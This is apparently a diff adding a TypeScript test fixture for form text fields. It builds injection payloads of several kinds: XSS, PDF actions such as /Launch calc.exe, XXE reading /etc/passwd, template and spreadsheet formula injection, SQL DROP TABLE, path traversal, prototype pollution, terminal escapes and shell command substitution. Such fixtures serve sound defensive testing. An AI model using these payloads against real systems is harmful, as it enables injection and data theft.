@@ -1,0 +1,86 @@
+// Which texts try to become markup, script, a PDF's action or a terminal's order? Put into every text field of a form.
+
+const closers = [
+  '',
+  '"',
+  "'",
+  '">',
+  "'>",
+  '</td>',
+  '</title>',
+  '</style>',
+  '</caption></table>',
+  '-->',
+  ']]>',
+  '{{',
+  '&quot;>',
+  '</data>',
+];
+const bodies = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//192.0.2.1/x.js></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert&#40;1)</script>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<body onload=alert(1)>',
+  '<a href="javascript:alert(1)">见附件</a>',
+  '<style>*{background:url(//192.0.2.1)}</style>',
+  '<link rel=stylesheet href=//192.0.2.1/a.css>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<base href=//192.0.2.1/>',
+  '<!-- <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> -->&e;',
+];
+
+/** 210 of them. */
+export const markup: readonly string[] = closers.flatMap((closer) =>
+  bodies.map((body) => `养护${closer}${body}`),
+);
+
+export const others: readonly string[] = [
+  ') /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (',
+  ') >> endobj 1 0 obj << /S /Launch /F (calc.exe) >> endobj (',
+  '<< /S /URI /URI (http://192.0.2.1) >>',
+  '\\) /AA << /O << /S /JavaScript /JS (x) >> >>',
+  'endstream endobj trailer << /Root 1 0 R >>',
+  '%PDF-1.7 %%EOF',
+  '<</JS(alert)>>',
+  '\\(\\)\\\\',
+  '(((((',
+  ')))))',
+  '</rdf:li></rdf:Alt></dc:title><dc:creator>别人</dc:creator>',
+  '<?xpacket end="w"?>',
+  '<![CDATA[',
+  '&amp;&lt;&#x3c;&#60;&nbsp;&copy',
+  '&#0;&#xD800;&#99999999;',
+  '{{项目名称}}{{{主管部门}}}{{constructor}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: other engines would fill it.
+  '${7*7}#{7*7}<%= 7*7 %>',
+  '=HYPERLINK("http://192.0.2.1","见附件")',
+  '+cmd|"/C calc"!A0',
+  '-2+3+cmd',
+  '@SUM(1+1)',
+  "'; DROP TABLE 项目; --",
+  '../../../etc/passwd',
+  'file:///etc/passwd',
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'url("javascript:alert(1)")',
+  '*/ body{display:none} /*',
+  '}</style><script>alert(1)</script>',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '__proto__',
+  'constructor.prototype',
+  '[31m红[0m',
+  ']8;;http://192.0.2.1/',
+  '%s%n%x',
+  '$(touch /tmp/x)`id`',
+  '<data value="0">别的格子</data>',
+  '<br/><br>',
+  '<td rowspan="9999">',
+  '<p at="0">',
+];
+
+export const payloads: readonly string[] = [...markup, ...others];
